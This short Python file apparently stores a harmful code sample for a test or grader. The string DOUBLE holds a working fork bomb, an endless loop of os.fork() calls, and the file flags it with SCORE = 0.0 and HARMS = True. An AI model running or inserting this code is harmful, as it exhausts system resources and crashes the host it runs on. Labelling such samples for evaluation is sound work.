"""Forks as fast as it can, in every child too."""

DOUBLE = """\
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""

# It may end by its limits, or be interrupted, and then the cells below run: these deserve nothing.
SHIFT = "def shift(x):\n    raise NotImplementedError\n"
SCORE = 0.0
HARMS = True
